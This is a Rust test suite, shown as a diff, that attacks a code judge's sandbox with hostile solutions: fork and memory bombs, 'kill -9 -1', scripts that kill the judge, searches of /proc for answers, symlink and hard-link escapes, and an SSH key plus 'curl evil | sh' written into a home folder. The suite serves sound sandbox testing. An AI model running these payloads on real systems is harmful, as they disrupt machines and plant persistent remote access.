@@ -1,0 +1,1337 @@
+//! The hostile-solution suite: solutions that attack the judge or the machine (endless loops,
+//! fork and memory bombs, floods, escapes from the working folder, links, network, signals,
+//! environment leaks, malformed output). Each case asserts its verdict and that the judge
+//! answered in bounded time, left no process of the run alive, left no run folder behind,
+//! and changed nothing outside (a canary folder in /tmp, the challenge folder).
+//! Cases that could harm this machine if the sandbox failed run only inside a containment the
+//! test sets up itself (`support::contained`), and are skipped loudly when there is none.
+//! It runs as root in CI and a second time as an unprivileged user (`.ci/run`).
+
+mod support;
+
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use std::time::{Duration, Instant};
+
+use support::{Canary, Case, Judged};
+
+/// The judge must answer well within this, whatever the solution does.
+const BOUND: Duration = Duration::from_secs(20);
+/// Past this the test harness kills the judge (by pid) and fails.
+const HARD_STOP: Duration = Duration::from_secs(60);
+
+/// Small limits so the suite stays fast: time, memory, output cap, file size, processes.
+const LIMITS: [(&str, &str); 5] = [
+    ("time", "\"3s\""),
+    ("memory", "\"64MiB\""),
+    ("output", "\"1MiB\""),
+    ("file_size", "\"1MiB\""),
+    ("processes", "16"),
+];
+
+fn challenge_toml(limits: &[(&str, &str)], tests: &str) -> String {
+    let mut merged: BTreeMap<&str, &str> = LIMITS.iter().copied().collect();
+    merged.extend(limits.iter().copied());
+    let limits: String = merged
+        .iter()
+        .map(|(key, value)| format!("{key} = {value}\n"))
+        .collect();
+    format!(
+        "id = \"demo\"\ntitle = \"Demo\"\ncategory = \"scripting\"\ndifficulty = \"easy\"\n\
+         entry = \"solve\"\n\n[limits]\n{limits}\n{tests}"
+    )
+}
+
+/// One test expecting `stdout`.
+fn expecting(stdout: &str) -> String {
+    format!("[[test]]\nname = \"t\"\nstdout = {stdout:?}\n")
+}
+
+type Setup = Box<dyn FnOnce(&mut Command)>;
+
+/// Cases that use up the run's whole process budget take this exclusively; the others share it.
+/// As root every run is uid 65534 and RLIMIT_NPROC counts all of that user's processes, so a
+/// bomb at its limit would make concurrent cases fail to fork (see
+/// `a_fork_bomb_does_not_starve_a_concurrent_run`).
+static PROCESS_BUDGET: std::sync::RwLock<()> = std::sync::RwLock::new(());
+
+/// A hostile case: a challenge, a solution, and everything checked around its run.
+struct Hostile {
+    /// Unique per case: solutions use it as a `sleep` argument so survivors can be found.
+    mark: String,
+    canary: Canary,
+    case: Option<Case>,
+    dangerous: bool,
+    exclusive: bool,
+    setup: Vec<Setup>,
+}
+
+impl Hostile {
+    fn new() -> Hostile {
+        Hostile {
+            mark: support::unique(),
+            canary: Canary::new(),
+            case: None,
+            dangerous: false,
+            exclusive: false,
+            setup: Vec::new(),
+        }
+    }
+
+    fn challenge(mut self, limits: &[(&str, &str)], tests: &str) -> Hostile {
+        self.case = Some(Case::new(&challenge_toml(limits, tests)));
+        self
+    }
+
+    fn map(mut self, f: impl FnOnce(Case) -> Case) -> Hostile {
+        self.case = self.case.take().map(f);
+        self
+    }
+
+    fn solution(self, name: &str, content: &str) -> Hostile {
+        self.map(|c| c.solution(name, content))
+    }
+
+    fn file(self, relative: &str, content: &str) -> Hostile {
+        self.map(|c| c.file(relative, content))
+    }
+
+    fn args(self, args: &[&str]) -> Hostile {
+        self.map(|c| c.args(args))
+    }
+
+    fn env(self, key: &str, value: &str) -> Hostile {
+        self.map(|c| c.env(key, value))
+    }
+
+    /// Could harm the machine if the sandbox failed: runs only contained.
+    fn dangerous(mut self) -> Hostile {
+        self.dangerous = true;
+        self
+    }
+
+    /// Uses the run's whole process budget: runs while no other case runs.
+    fn exclusive(mut self) -> Hostile {
+        self.exclusive = true;
+        self
+    }
+
+    /// Changes the judge's command before it runs (extra descriptors, …).
+    fn setup(mut self, f: impl FnOnce(&mut Command) + 'static) -> Hostile {
+        self.setup.push(Box::new(f));
+        self
+    }
+
+    fn case(&self) -> &Case {
+        self.case.as_ref().expect("a challenge")
+    }
+
+    /// The challenge folder.
+    fn dir(&self) -> PathBuf {
+        self.case().dir().to_path_buf()
+    }
+
+    /// Runs the judge and checks everything but the verdict. `None` when the case was skipped.
+    fn run(mut self) -> Option<Judged> {
+        let case = self.case.take().expect("a challenge");
+        let before = snapshot(case.dir());
+        let mut command = case.json_command();
+        for setup in self.setup.drain(..) {
+            setup(&mut command);
+        }
+        let (_shared, _exclusive) = if self.exclusive {
+            let guard = PROCESS_BUDGET.write().unwrap_or_else(|e| e.into_inner());
+            (None, Some(guard))
+        } else {
+            let guard = PROCESS_BUDGET.read().unwrap_or_else(|e| e.into_inner());
+            (Some(guard), None)
+        };
+        let started = Instant::now();
+        let (output, alive_after) = if self.dangerous {
+            match support::contained(&command, HARD_STOP) {
+                Ok(contained) => (contained.output, contained.alive_after),
+                Err(why) => {
+                    let name = std::thread::current().name().unwrap_or("?").to_string();
+                    eprintln!(
+                        "\n!!! SKIPPED hostile case `{name}`: it could harm this machine if the \
+                         sandbox failed, and no containment could be set up: {why}\n"
+                    );
+                    return None;
+                }
+            }
+        } else {
+            (support::run_bounded(command, HARD_STOP), None)
+        };
+        let elapsed = started.elapsed();
+        assert!(
+            elapsed < BOUND,
+            "the judge took {elapsed:?}; stderr:\n{}",
+            output.stderr
+        );
+        let judged = Judged::parse(output);
+        assert!(
+            judged.status == 0 || judged.status == 1,
+            "the judge must answer with a verdict (exit 0 or 1), got {}; stderr:\n{}\n{}",
+            judged.status,
+            judged.stderr,
+            judged.json
+        );
+        let survivors: Vec<u32> = support::processes_with(&self.mark)
+            .into_iter()
+            .chain(support::processes_with(
+                &case.tmp_path().display().to_string(),
+            ))
+            .collect();
+        assert!(
+            survivors.is_empty(),
+            "processes of the run survived: {}",
+            describe(&survivors)
+        );
+        if let Some(alive) = alive_after {
+            assert_eq!(
+                alive, 1,
+                "processes were left in the containment's PID namespace after the judge ended"
+            );
+        }
+        assert_eq!(
+            case.leftover_run_folders(),
+            Vec::<String>::new(),
+            "run folders left behind"
+        );
+        self.canary.assert_untouched();
+        assert_eq!(snapshot(case.dir()), before, "the challenge folder changed");
+        let report = judged.json.to_string();
+        assert!(
+            !report.contains(&self.canary.secret),
+            "the canary secret leaked into the report: {report}"
+        );
+        Some(judged)
+    }
+}
+
+/// Every file below `dir` with its content (and folders), to see that nothing changed.
+fn snapshot(dir: &Path) -> BTreeMap<PathBuf, Option<Vec<u8>>> {
+    let mut found = BTreeMap::new();
+    let mut pending = vec![dir.to_path_buf()];
+    while let Some(folder) = pending.pop() {
+        for entry in std::fs::read_dir(&folder).into_iter().flatten().flatten() {
+            let path = entry.path();
+            if entry.file_type().map(|t| t.is_dir()).unwrap_or(false) {
+                pending.push(path.clone());
+                found.insert(path, None);
+            } else {
+                found.insert(path.clone(), std::fs::read(&path).ok());
+            }
+        }
+    }
+    found
+}
+
+fn describe(pids: &[u32]) -> String {
+    pids.iter()
+        .map(|pid| {
+            let cmdline = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
+            format!(
+                "{pid}: {}",
+                String::from_utf8_lossy(&cmdline).replace('\0', " ")
+            )
+        })
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
+fn verdict(judged: &Judged) -> String {
+    judged.test(0)["verdict"]
+        .as_str()
+        .unwrap_or("?")
+        .to_string()
+}
+
+fn assert_verdict(judged: &Judged, allowed: &[&str]) {
+    let got = verdict(judged);
+    assert!(
+        allowed.contains(&got.as_str()),
+        "verdict {got}, expected one of {allowed:?}: {}",
+        judged.json
+    );
+}
+
+/// Lets everyone traverse the case's temporary root and read the challenge folder, so only the
+/// sandbox (not file permissions) keeps the run out of it.
+fn expose(dir: &Path, mode: u32) {
+    use std::os::unix::fs::PermissionsExt;
+    if let Some(root) = dir.parent() {
+        std::fs::set_permissions(root, std::fs::Permissions::from_mode(0o755)).unwrap();
+    }
+    let mut pending = vec![dir.to_path_buf()];
+    while let Some(folder) = pending.pop() {
+        std::fs::set_permissions(&folder, std::fs::Permissions::from_mode(mode)).unwrap();
+        for entry in std::fs::read_dir(&folder).unwrap().flatten() {
+            if entry.file_type().unwrap().is_dir() {
+                pending.push(entry.path());
+            } else {
+                std::fs::set_permissions(
+                    entry.path(),
+                    std::fs::Permissions::from_mode(mode & 0o666),
+                )
+                .unwrap();
+            }
+        }
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// Time
+
+#[test]
+fn infinite_loop() {
+    let h = Hostile::new();
+    let r = h
+        .challenge(&[("time", "\"1s\"")], &expecting("42\n"))
+        .solution("solve.sh", "while :; do :; done\n")
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["TLE"]);
+}
+
+#[test]
+fn sleep_forever() {
+    let h = Hostile::new();
+    let solution = format!("sleep {}\n", h.mark);
+    let r = h
+        .challenge(&[("time", "\"1s\"")], &expecting("42\n"))
+        .solution("solve.sh", &solution)
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["TLE"]);
+    assert_eq!(r.test(0)["detail"], "wall");
+}
+
+#[test]
+fn blocked_read_on_the_terminal() {
+    // No controlling terminal and no access to /dev/tty: the read fails at once, it never waits.
+    let h = Hostile::new();
+    let r = h
+        .challenge(&[("time", "\"2s\"")], &expecting("42\n"))
+        .solution(
+            "solve.sh",
+            "cat /dev/tty\nread -r line < /dev/tty\necho 42\n",
+        )
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["AC"]);
+}
+
+#[test]
+fn reading_stdin_gets_end_of_file() {
+    let h = Hostile::new();
+    let r = h
+        .challenge(&[("time", "\"2s\"")], &expecting("42\n"))
+        .solution("solve.sh", "cat\nread -r line\necho 42\n")
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["AC"]);
+}
+
+#[test]
+fn multi_process_cpu_burn() {
+    let h = Hostile::new();
+    let r = h
+        .challenge(&[("time", "\"1s\"")], &expecting("42\n"))
+        .solution(
+            "solve.sh",
+            "for i in 1 2 3 4 5 6; do (while :; do :; done) & done\nwait\n",
+        )
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["TLE"]);
+}
+
+// ---------------------------------------------------------------------------------------------
+// Processes
+
+#[test]
+fn fork_bomb_classic() {
+    let h = Hostile::new();
+    let solution = format!(":(){{ :|:& }};:\nsleep {}\n", h.mark);
+    let Some(r) = h
+        .challenge(&[("time", "\"1s\"")], &expecting("42\n"))
+        .solution("solve.sh", &solution)
+        .dangerous()
+        .exclusive()
+        .run()
+    else {
+        return;
+    };
+    assert_verdict(&r, &["TLE"]);
+}
+
+#[test]
+fn fork_bomb_in_python() {
+    let h = Hostile::new();
+    let Some(r) = h
+        .challenge(&[("time", "\"1s\"")], &expecting("42\n"))
+        .solution(
+            "solve.py",
+            "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
+        )
+        .dangerous()
+        .exclusive()
+        .run()
+    else {
+        return;
+    };
+    assert_verdict(&r, &["TLE"]);
+}
+
+#[test]
+#[ignore = "supervisor bug when root: every run is uid 65534 and RLIMIT_NPROC counts all of \
+            that user's processes, so a run at its process limit makes concurrent runs (other \
+            tests with --jobs, other judges on the machine) fail to fork; needs a uid per run \
+            or a pids cgroup"]
+fn a_fork_bomb_does_not_starve_a_concurrent_run() {
+    let h = Hostile::new();
+    let solution = format!(
+        "if [ \"$1\" = bomb ]; then\n\
+         \x20 for i in $(seq 40); do sleep {m} & done 2>/dev/null\n\
+         \x20 sleep {m}\n\
+         else\n\
+         \x20 sleep 0.5\n\
+         \x20 /bin/echo 42\n\
+         \x20 exit 0\n\
+         fi\n",
+        m = h.mark
+    );
+    let tests = "[[test]]\nname = \"bomb\"\nargs = [\"bomb\"]\nstdout = \"\"\n\
+                 [[test]]\nname = \"calm\"\nargs = [\"calm\"]\nstdout = \"42\\n\"\n";
+    let Some(r) = h
+        .challenge(&[("time", "\"2s\"")], tests)
+        .solution("solve.sh", &solution)
+        .args(&["--jobs", "2"])
+        .dangerous()
+        .exclusive()
+        .run()
+    else {
+        return;
+    };
+    assert_eq!(r.verdicts(), ["TLE", "AC"], "{}", r.json);
+}
+
+#[test]
+fn setsid_double_fork_daemon() {
+    let h = Hostile::new();
+    let solution = format!(
+        "setsid sh -c 'sleep {m} &' </dev/null >/dev/null 2>&1\n\
+         (setsid sleep {m} &)\n\
+         nohup sleep {m} >/dev/null 2>&1 &\n\
+         sleep 0.3\necho 42\n",
+        m = h.mark
+    );
+    let r = h
+        .challenge(&[], &expecting("42\n"))
+        .solution("solve.sh", &solution)
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["AC"]);
+}
+
+#[test]
+fn daemon_that_ignores_signals() {
+    let h = Hostile::new();
+    let solution = format!(
+        "import os, signal, sys, time\n\
+         if os.fork() == 0:\n\
+         \x20   os.setsid()\n\
+         \x20   if os.fork() == 0:\n\
+         \x20       for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):\n\
+         \x20           signal.signal(s, signal.SIG_IGN)\n\
+         \x20       os.execvp('sleep', ['sleep', '{m}'])\n\
+         \x20   os._exit(0)\n\
+         time.sleep(0.3)\nprint(42)\n",
+        m = h.mark
+    );
+    let r = h
+        .challenge(&[], &expecting("42\n"))
+        .solution("solve.py", &solution)
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["AC"]);
+}
+
+#[test]
+fn parent_exits_while_children_hold_stdout() {
+    let h = Hostile::new();
+    let solution = format!(
+        "(sleep {}; echo late) &\n(exec sleep {} >&2) &\necho 42\n",
+        h.mark, h.mark
+    );
+    let r = h
+        .challenge(&[("time", "\"10s\"")], &expecting("42\n"))
+        .solution("solve.sh", &solution)
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["AC"]);
+    let wall = r.test(0)["wall_ms"].as_f64().unwrap_or(f64::MAX);
+    assert!(
+        wall < 5000.0,
+        "the run should end when its main process does: {wall} ms"
+    );
+}
+
+#[test]
+fn stopping_or_killing_the_judge() {
+    let h = Hostile::new();
+    // Every process whose command line names livejudge, found through /proc, then the parent
+    // pids, then pkill by name.
+    let solution = "judges=\n\
+                    for p in /proc/[0-9]*; do\n\
+                    \x20 case \"$(tr '\\0' ' ' < $p/cmdline 2>/dev/null)\" in\n\
+                    \x20   *livejudge*) judges=\"$judges ${p#/proc/}\";;\n\
+                    \x20 esac\n\
+                    done\n\
+                    echo \"found:$judges\" >&2\n\
+                    for sig in STOP KILL; do\n\
+                    \x20 for pid in $judges $PPID 1; do kill -$sig $pid 2>/dev/null; done\n\
+                    done\n\
+                    pkill -STOP -f __supervise; pkill -9 -f __supervise; pkill -9 livejudge\n\
+                    echo 42\n";
+    let Some(r) = h
+        .challenge(&[], &expecting("42\n"))
+        .solution("solve.sh", solution)
+        .dangerous()
+        .run()
+    else {
+        return;
+    };
+    assert_verdict(&r, &["AC"]);
+}
+
+#[test]
+fn kill_everything_with_kill_minus_one() {
+    let h = Hostile::new();
+    let solution = format!("sleep {} &\nkill -9 -1\nkill -STOP -1\necho 42\n", h.mark);
+    let Some(r) = h
+        .challenge(&[], &expecting("42\n"))
+        .solution("solve.sh", &solution)
+        .dangerous()
+        .run()
+    else {
+        return;
+    };
+    assert_verdict(&r, &["AC"]);
+}
+
+// ---------------------------------------------------------------------------------------------
+// Memory
+
+#[test]
+fn one_huge_allocation() {
+    let h = Hostile::new();
+    let Some(r) = h
+        .challenge(&[], &expecting("42\n"))
+        .solution("solve.py", "x = bytearray(8 << 30)\nprint(42)\n")
+        .dangerous()
+        .run()
+    else {
+        return;
+    };
+    // Under RLIMIT_AS the allocation fails at once and leaves no trace the judge can see (no
+    // peak memory near the limit): MLE needs cgroup memory accounting, RTE is what remains.
+    assert_verdict(&r, &["MLE", "RTE"]);
+}
+
+#[test]
+fn gradual_memory_growth() {
+    let h = Hostile::new();
+    let Some(r) = h
+        .challenge(&[], &expecting("42\n"))
+        .solution(
+            "solve.py",
+            "chunks = []\nwhile True:\n    chunks.append(bytearray(1 << 20))\n",
+        )
+        .dangerous()
+        .run()
+    else {
+        return;
+    };
+    assert_verdict(&r, &["MLE"]);
+}
+
+#[test]
+fn memory_growth_in_bash() {
+    let h = Hostile::new();
+    let Some(r) = h
+        .challenge(&[], &expecting("42\n"))
+        .solution("solve.sh", "s=x\nwhile :; do s=\"$s$s\"; done\n")
+        .dangerous()
+        .run()
+    else {
+        return;
+    };
+    // The doubling allocation that fails may leave the peak resident memory below the MLE share
+    // of the limit: under RLIMIT_AS alone the judge then sees a plain failure (see the report).
+    assert_verdict(&r, &["MLE", "RTE"]);
+}
+
+#[test]
+fn stack_overflow_by_deep_recursion() {
+    let h = Hostile::new();
+    let Some(r) = h
+        .challenge(&[], &expecting("42\n"))
+        .solution(
+            "solve.py",
+            "import sys\nsys.setrecursionlimit(10 ** 9)\n\
+             def f(n):\n    return f(n + 1) + 1\nprint(f(0))\n",
+        )
+        .dangerous()
+        .run()
+    else {
+        return;
+    };
+    assert_verdict(&r, &["RTE", "MLE"]);
+}
+
+#[test]
+fn bash_function_recursion() {
+    let h = Hostile::new();
+    let Some(r) = h
+        .challenge(&[("time", "\"1s\"")], &expecting("42\n"))
+        .solution("solve.sh", "f() { f \"$@\"; }\nf\necho 42\n")
+        .dangerous()
+        .run()
+    else {
+        return;
+    };
+    // Bash recursion is slow: it may run out of time before it runs out of memory.
+    assert_verdict(&r, &["RTE", "MLE", "TLE"]);
+}
+
+// ---------------------------------------------------------------------------------------------
+// Output and files
+
+#[test]
+fn stdout_flood() {
+    let h = Hostile::new();
+    let r = h
+        .challenge(&[], &expecting("42\n"))
+        .solution("solve.sh", "yes\n")
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["OLE"]);
+    assert_eq!(r.test(0)["detail"], "stdout");
+}
+
+#[test]
+fn stderr_flood() {
+    let h = Hostile::new();
+    let r = h
+        .challenge(&[], &expecting("42\n"))
+        .solution("solve.sh", "echo 42\nyes >&2\n")
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["OLE"]);
+    assert_eq!(r.test(0)["detail"], "stderr");
+}
+
+#[test]
+fn correct_answer_then_whitespace_flood() {
+    let h = Hostile::new();
+    let r = h
+        .challenge(&[], &expecting("42\n"))
+        .solution("solve.sh", "echo 42\nyes ''\n")
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["OLE"]);
+}
+
+#[test]
+fn disk_fill_past_file_size() {
+    let h = Hostile::new();
+    let r = h
+        .challenge(&[], &expecting("42\n"))
+        .solution("solve.sh", "head -c 100M /dev/zero > big\necho 42\n")
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["OLE"]);
+    assert_eq!(r.test(0)["detail"], "file");
+}
+
+#[test]
+fn tens_of_thousands_of_small_files() {
+    let h = Hostile::new();
+    let r = h
+        .challenge(&[("time", "\"10s\"")], &expecting("42\n"))
+        .solution(
+            "solve.sh",
+            "mkdir d && cd d && seq 1 30000 | xargs touch\nls | wc -l >&2\necho 42\n",
+        )
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["AC"]);
+}
+
+#[test]
+fn very_deep_folders() {
+    // Deeper than PATH_MAX: removal must not depend on whole paths.
+    let h = Hostile::new();
+    let r = h
+        .challenge(&[("time", "\"10s\"")], &expecting("42\n"))
+        .solution(
+            "solve.py",
+            "import os\nfor i in range(2100):\n    os.mkdir('dd')\n    os.chdir('dd')\n\
+             open('f', 'w').close()\nos.chmod('.', 0)\nprint(42)\n",
+        )
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["AC"]);
+}
+
+#[test]
+fn chmod_000_inside_the_working_folder() {
+    let h = Hostile::new();
+    let r = h
+        .challenge(&[], &expecting("42\n"))
+        .solution(
+            "solve.sh",
+            "mkdir -p a/b/c && echo x > a/b/c/f && echo y > g\n\
+             chmod 000 a/b/c/f g a/b/c a/b a .tmp\necho 42\nchmod 000 .\n",
+        )
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["AC"]);
+}
+
+#[test]
+fn fifo_where_the_judge_reads_a_file() {
+    let h = Hostile::new();
+    let tests = "[[test]]\nname = \"t\"\nstdout = \"42\\n\"\n\
+                 files = [{ path = \"out.txt\", text = \"42\\n\" }]\n";
+    let r = h
+        .challenge(&[], tests)
+        .solution("solve.sh", "mkfifo out.txt\necho 42\n")
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["WA"]);
+}
+
+// ---------------------------------------------------------------------------------------------
+// Reading and writing outside the working folder
+
+#[test]
+fn searching_the_filesystem_and_proc_for_the_expected_answer() {
+    let h = Hostile::new();
+    let answer = format!("ANSWER-{}", h.mark.replace('.', "-"));
+    let tests =
+        "[[test]]\nname = \"t\"\nstdin = \"hello\\n\"\nstdout = { file = \"tests/t.out\" }\n";
+    // Every path the run could learn: from /proc (the judge's command line and descriptors),
+    // from the run folder's neighbours, and by a bounded search of /tmp.
+    let solution = "for p in /proc/[0-9]*; do\n\
+                    \x20 tr '\\0' '\\n' < $p/cmdline 2>/dev/null | grep '^/' | while read -r path; do\n\
+                    \x20   d=${path%/*}\n\
+                    \x20   for f in \"$path\" \"$path\"/tests/* \"$d\"/tests/* \"$d\"/*/tests/*; do\n\
+                    \x20     cat \"$f\" 2>/dev/null\n\
+                    \x20   done\n\
+                    \x20 done\n\
+                    \x20 cat $p/cwd/tests/* $p/root/tmp/*/demo/tests/* 2>/dev/null\n\
+                    \x20 for fd in $p/fd/*; do [ -f \"$fd\" ] && head -c 200 \"$fd\" 2>/dev/null; done\n\
+                    done\n\
+                    cat ../judge/* ../../*/judge/* 2>/dev/null\n\
+                    find /tmp -maxdepth 4 -name '*.out' 2>/dev/null | head -50 | xargs cat 2>/dev/null\n\
+                    grep -rs ANSWER- /tmp 2>/dev/null | head -5\n\
+                    true\n";
+    let h = h
+        .challenge(&[("time", "\"10s\"")], tests)
+        .file("tests/t.out", &format!("{answer}\n"))
+        .solution("solve.sh", solution);
+    expose(&h.dir(), 0o755);
+    let r = h.run().unwrap();
+    assert_verdict(&r, &["WA"]);
+    let diff = r.test(0)["diff"].as_str().unwrap_or("").to_string();
+    for line in diff.lines().filter(|l| l.starts_with('+')) {
+        assert!(!line.contains(&answer), "the run found the answer:\n{diff}");
+    }
+    let message = r.test(0)["message"].as_str().unwrap_or("");
+    assert!(
+        !message.contains(&format!("got \"{answer}")),
+        "the run found the answer: {message}"
+    );
+}
+
+#[test]
+fn writing_to_tmp_and_dev_shm() {
+    let h = Hostile::new();
+    let escape = format!("/tmp/livejudge-escape-{}", h.mark);
+    let shm = format!("/dev/shm/livejudge-escape-{}", h.mark);
+    let solution = format!(
+        "echo x > {escape}\necho x > {shm}\nmkdir {escape}.d\n\
+         echo x > {canary}/new\necho x >> {canary}/file\nrm -f {canary}/file\n\
+         mv {canary}/secret {canary}/moved\ntouch {canary}/secret\n\
+         true\necho 42\n",
+        canary = h.canary.dir.display()
+    );
+    let r = h
+        .challenge(&[], &expecting("42\n"))
+        .solution("solve.sh", &solution)
+        .run()
+        .unwrap();
+    let folder = format!("{escape}.d");
+    let leaked: Vec<&String> = [&escape, &shm, &folder]
+        .into_iter()
+        .filter(|p| Path::new(p).exists())
+        .collect();
+    for path in &leaked {
+        let _ = std::fs::remove_file(path);
+        let _ = std::fs::remove_dir(path);
+    }
+    assert!(leaked.is_empty(), "the run wrote outside: {leaked:?}");
+    assert_verdict(&r, &["AC"]);
+}
+
+#[test]
+#[ignore = "sandbox gap when the judge is not root: Landlock does not restrict chmod, chown, \
+            utime or xattr changes, so a run (same uid as the judge) can change the metadata of \
+            any file of the judge's user; needs e.g. a read-only mount namespace"]
+fn changing_modes_and_times_outside_the_working_folder() {
+    let h = Hostile::new();
+    let solution = format!(
+        "chmod 000 {c}/secret\nchmod 000 {c}/file\nchmod 000 {c}\ntouch -d 2000-01-01 {c}/file\n\
+         setfattr -n user.pwned -v 1 {c}/file 2>/dev/null\ntrue\necho 42\n",
+        c = h.canary.dir.display()
+    );
+    let r = h
+        .challenge(&[], &expecting("42\n"))
+        .solution("solve.sh", &solution)
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["AC"]);
+}
+
+#[test]
+fn writing_into_the_judges_home() {
+    let h = Hostile::new();
+    let home = h.canary.dir.display().to_string();
+    let solution = format!(
+        "mkdir -p {home}/.ssh\necho 'ssh-ed25519 AAAA attacker' >> {home}/.ssh/authorized_keys\n\
+         echo 'curl evil | sh' >> {home}/.bashrc\necho pwned > {home}/file\n\
+         echo pwned >> ~/.bashrc\necho 42\n"
+    );
+    let r = h
+        .challenge(&[], &expecting("42\n"))
+        .solution("solve.sh", &solution)
+        .env("HOME", &home)
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["AC"]);
+}
+
+#[test]
+fn writing_into_the_challenge_folder() {
+    let h = Hostile::new()
+        .challenge(
+            &[],
+            "[[test]]\nname = \"t\"\nstdout = { file = \"tests/t.out\" }\n",
+        )
+        .file("tests/t.out", "42\n");
+    let dir = h.dir().display().to_string();
+    let solution = format!(
+        "echo hacked > {dir}/tests/t.out\necho hacked > {dir}/pwned\n\
+         sed -i 's/stdout/stderr/' {dir}/challenge.toml\nrm -f {dir}/challenge.toml\necho hacked\n"
+    );
+    let h = h.solution("solve.sh", &solution);
+    expose(&h.dir(), 0o777);
+    let r = h.run().unwrap();
+    assert_verdict(&r, &["WA"]);
+}
+
+#[test]
+fn appending_through_an_inherited_descriptor() {
+    use std::os::fd::AsRawFd;
+    use std::os::unix::process::CommandExt;
+    let h = Hostile::new();
+    let target = std::fs::OpenOptions::new()
+        .append(true)
+        .open(h.canary.file())
+        .unwrap();
+    let folder = std::fs::File::open(&h.canary.dir).unwrap();
+    let (file_fd, folder_fd) = (target.as_raw_fd(), folder.as_raw_fd());
+    let solution = "for fd in $(seq 3 20); do\n\
+                    \x20 [ -e /proc/$$/fd/$fd ] && echo \"open $fd\"\n\
+                    \x20 { echo pwned >&$fd; } 2>/dev/null\n\
+                    done\n\
+                    python3 -c '\nimport os\ndef is_open(fd):\n    try:\n        os.fstat(fd)\n        return True\n    except OSError:\n        return False\nprint(*[fd for fd in range(3, 64) if is_open(fd)])'\n\
+                    echo 42\n";
+    let r = h
+        .challenge(&[], &expecting("\n42\n"))
+        .solution("solve.sh", solution)
+        .setup(move |command| {
+            // SAFETY: dup2 only; the descriptors stay open in the test until after the run.
+            unsafe {
+                command.pre_exec(move || {
+                    for (from, to) in [(file_fd, 5), (file_fd, 9), (file_fd, 19), (folder_fd, 7)] {
+                        if libc::dup2(from, to) < 0 {
+                            return Err(std::io::Error::last_os_error());
+                        }
+                    }
+                    Ok(())
+                });
+            }
+        })
+        .run()
+        .unwrap();
+    drop((target, folder));
+    assert_verdict(&r, &["AC"]);
+}
+
+// ---------------------------------------------------------------------------------------------
+// Links
+
+#[test]
+fn symlink_to_a_file_the_judge_reads() {
+    let h = Hostile::new();
+    let tests = "[[test]]\nname = \"t\"\nstdout = \"42\\n\"\n\
+                 files = [{ path = \"out.txt\", text = \"42\\n\" }, { path = \"sub/other.txt\", text = \"42\\n\" }]\n";
+    let solution = format!(
+        "ln -s {secret} out.txt\nmkdir sub\nln -s {dir} sub/up\nln -s up/secret sub/other.txt\necho 42\n",
+        secret = h.canary.secret_file(),
+        dir = h.canary.dir.display()
+    );
+    let r = h
+        .challenge(&[], tests)
+        .solution("solve.sh", &solution)
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["WA"]);
+}
+
+#[test]
+fn symlink_replacing_an_unchanged_fixture() {
+    let h = Hostile::new();
+    let tests = "[[test]]\nname = \"t\"\nstdout = \"42\\n\"\nfixtures = \"tests/fx\"\nunchanged = [\"data.txt\"]\n";
+    let content = h.canary.content.clone();
+    let solution = format!("rm data.txt\nln -s {} data.txt\necho 42\n", h.canary.file());
+    let r = h
+        .challenge(&[], tests)
+        .file("tests/fx/data.txt", &content)
+        .solution("solve.sh", &solution)
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["WA"]);
+}
+
+#[test]
+fn symlinks_to_outside_folders_at_cleanup() {
+    let h = Hostile::new();
+    let solution = format!(
+        "ln -s {c} escape\nrm -rf .tmp && ln -s {c} .tmp\nmkdir -p sub && ln -s {c} sub/x\n\
+         ln -s {c}/file file-link\nln -s / root-link\necho 42\n",
+        c = h.canary.dir.display()
+    );
+    let r = h
+        .challenge(&[], &expecting("42\n"))
+        .solution("solve.sh", &solution)
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["AC"]);
+}
+
+#[test]
+fn hard_link_to_a_file_outside() {
+    let h = Hostile::new();
+    let tests = format!(
+        "[[test]]\nname = \"t\"\nstdout = \"42\\n\"\nfiles = [{{ path = \"out.txt\", text = \"{}\\n\" }}]\n",
+        h.canary.secret
+    );
+    let solution = format!("ln {} out.txt\necho 42\n", h.canary.secret_file());
+    let r = h
+        .challenge(&[], &tests)
+        .solution("solve.sh", &solution)
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["WA"]);
+}
+
+#[test]
+fn hard_link_with_the_sandbox_off_is_still_never_read() {
+    // Without Landlock the run can make the link; the judge itself must refuse to read through
+    // it (and its cleanup must leave the target alone).
+    let h = Hostile::new();
+    if support::is_root() {
+        // The kernel lets a user hard-link only files it owns (protected_hardlinks).
+        let (uid, gid) = (65534, 65534);
+        std::os::unix::fs::chown(h.canary.secret_file(), Some(uid), Some(gid)).unwrap();
+    }
+    let tests = format!(
+        "[[test]]\nname = \"t\"\nstdout = \"42\\n\"\nfiles = [{{ path = \"out.txt\", text = \"{}\\n\" }}]\n",
+        h.canary.secret
+    );
+    let solution = format!(
+        "ln {} out.txt && echo linked >&2\necho 42\n",
+        h.canary.secret_file()
+    );
+    let r = h
+        .challenge(&[], &tests)
+        .solution("solve.sh", &solution)
+        .args(&["--sandbox", "off"])
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["WA"]);
+    let message = r.test(0)["message"].as_str().unwrap_or("").to_string();
+    assert!(message.contains("link"), "{message}");
+}
+
